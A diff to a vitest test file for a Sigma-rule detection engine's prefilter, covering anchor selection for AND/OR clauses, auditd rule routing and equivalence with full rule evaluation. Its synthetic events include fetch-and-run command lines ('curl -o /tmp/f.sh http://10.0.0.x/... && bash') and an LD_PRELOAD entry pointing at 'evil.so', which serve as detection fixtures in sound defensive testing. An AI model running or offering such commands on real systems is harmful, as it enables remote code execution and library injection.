@@ -5,7 +5,7 @@ import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { TelemetryEvent } from '../../../../../preload/contract/index.js';
 import { loadRules, readRuleFolders, SigmaEngine } from '../../../../../main/core/detect/sigma/index.js';
-import { LiteralSet, regexLiteral, regexLiterals } from '../../../../../main/core/detect/sigma/prefilter.js';
+import { andAnchors, LiteralSet, orAnchors, regexLiteral, regexLiterals, type Anchor } from '../../../../../main/core/detect/sigma/prefilter.js';
 import { commandLine } from '../../../../../main/core/sensors/process/index.js';
 import { execEventSource } from '../../../../../scripts/bench/lib/exec-events.js';
 
@@ -37,6 +37,58 @@ describe('Sigma prefilter', () => {
     expect(found.sort()).toEqual([0, 1, 2]);
   });
 
+  it('keeps every necessary clause of an AND (the best first) and pairs the clauses of an OR', () => {
+    const lit = (field: string, literal: string, more: Partial<Anchor> = {}): Anchor => ({ field, literal, ...more });
+    const image = [lit('Image', 'cat', { exact: true, basename: true })];
+    const cmd = [lit('CommandLine', '/etc/'), lit('CommandLine', '/boot/')];
+    const user = [lit('User', 'root', { exact: true, coarse: true })];
+    const cwd = [lit('CurrentDirectory', 'tmp', { repeats: true })];
+    // The best clause leads (ties: as written). Others stay when cheap to see: an equality, or a field whose
+    // values repeat. More command-line literals would slow the scan every event makes; a coarse field (a user
+    // name) is only worth it alone.
+    expect(andAnchors([[cmd], [image], [user], [cwd]])).toEqual([cmd, image, cwd]);
+    expect(andAnchors([[image], [cmd]])).toEqual([image]);
+    expect(andAnchors([[user]])).toEqual([user]);
+    expect(andAnchors([null, [image]])).toEqual([image]);
+    expect(andAnchors([[image], [[]]])).toEqual([[]]); // a search that can never match
+    // (A1 and A2) or (B1 and B2): both (A1 or B1) and (A2 or B2) are necessary.
+    const a1 = [lit('Image', 'vim', { exact: true, basename: true })];
+    const a2 = [lit('ParentImage', 'nginx', { exact: true, basename: true })];
+    const b1 = [lit('Image', 'nano', { exact: true, basename: true })];
+    const b2 = [lit('ParentImage', 'httpd', { exact: true, basename: true })];
+    expect(orAnchors([[a1, a2], [b1, b2]])).toEqual([[...a2, ...b2], [...a1, ...b1]]);
+    expect(orAnchors([[a1], null])).toBeNull();
+    expect(orAnchors([[a1], [[]]])).toEqual([a1]); // the branch that can never match drops out
+  });
+
+  it('runs an auditd rule only on the kind of event its record type stands for', () => {
+    const { rules, results } = loadRules([{ file: 'a.yml', text: `title: ptrace
+id: 00000000-0000-4000-8000-0000000000a1
+logsource: { product: linux, service: auditd }
+detection: { s: { type: SYSCALL, SYSCALL: ptrace }, condition: s }
+---
+title: id run
+id: 00000000-0000-4000-8000-0000000000a2
+logsource: { product: linux, service: auditd }
+detection: { s: { type: EXECVE, a0: id }, condition: s }
+---
+title: either
+id: 00000000-0000-4000-8000-0000000000a3
+logsource: { product: linux, service: auditd }
+detection: { x: { type: EXECVE, a0: ptrace }, y: { type: SYSCALL, SYSCALL: ptrace }, condition: x or y }
+` }]);
+    expect(results.filter((r) => !r.loaded)).toEqual([]);
+    expect(Object.fromEntries(rules.map((r) => [r.title, [...r.kinds!].sort()]))).toEqual({ ptrace: ['syscall'], 'id run': ['process'], either: ['process', 'syscall'] });
+    const engine = new SigmaEngine(rules);
+    const base = execEventSource(1, 5).next(1)[0]!;
+    const exec = (args: string[]) => ({ ...base, id: 1, process: { ...base.process, executable: `/usr/bin/${args[0]}`, name: args[0]!, command_line: args.join(' '), args } }) as TelemetryEvent;
+    const syscall = { ...base, id: 2, event: { kind: 'syscall', action: 'ptrace', sequence: null }, syscall: { name: 'ptrace', args: {}, ret: 0 } } as TelemetryEvent;
+    const titles = (e: TelemetryEvent) => engine.evaluate(e).map((f) => f.rule.title).sort();
+    expect(titles(exec(['id']))).toEqual(['id run']);
+    expect(titles(exec(['ptrace', '-p', '1']))).toEqual(['either']);
+    expect(titles(syscall)).toEqual(['either', 'ptrace']);
+  });
+
   it('finds exactly what running every rule finds (own pack + SigmaHQ Linux)', () => {
     const folders = [join(process.cwd(), 'rules', 'sigma'), join(CORPORA, 'sigma-linux', 'rules', 'linux'), join(CORPORA, 'sigma-linux-extra')].filter(existsSync);
     const { rules, correlations } = loadRules(readRuleFolders(folders).sources);
@@ -60,6 +112,11 @@ describe('Sigma prefilter', () => {
       events.push({ ...events[i]!, id: 40_000 + i, event: { kind: 'file', action: 'create', sequence: null },
         file: { path, name: path.slice(path.lastIndexOf('/') + 1), directory: path.slice(0, path.lastIndexOf('/')) } } as TelemetryEvent);
     }
+    // Enough distinct command lines in a row that the prefilter stops remembering them, then repeats again.
+    for (let i = 0; i < 2500; i++) {
+      const cl = `curl -o /tmp/f${i}.sh http://10.0.0.${i % 250}/x${i} && bash /tmp/f${i}.sh`;
+      events.push({ ...events[i]!, id: 50_000 + i, process: { ...events[i]!.process, executable: '/usr/bin/curl', name: 'curl', command_line: cl, args: cl.split(' ') } });
+    }
     // List fields (environment, argv) are scanned too.
     events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
     const run = (prefilter: boolean) => {
@@ -72,6 +129,7 @@ describe('Sigma prefilter', () => {
     expect(fast.some((f) => f.startsWith('20000:'))).toBe(true);
     if (folders.length > 1) expect(fast.some((f) => f.startsWith('30000:'))).toBe(true); // auditd: a0 is "id"
     expect(fast.some((f) => f.startsWith('4000'))).toBe(true);
+    expect(fast.filter((f) => f.startsWith('5')).length).toBeGreaterThan(2500); // curl ... | bash: each is found
     expect(fast).toEqual(run(false));
   });
 });
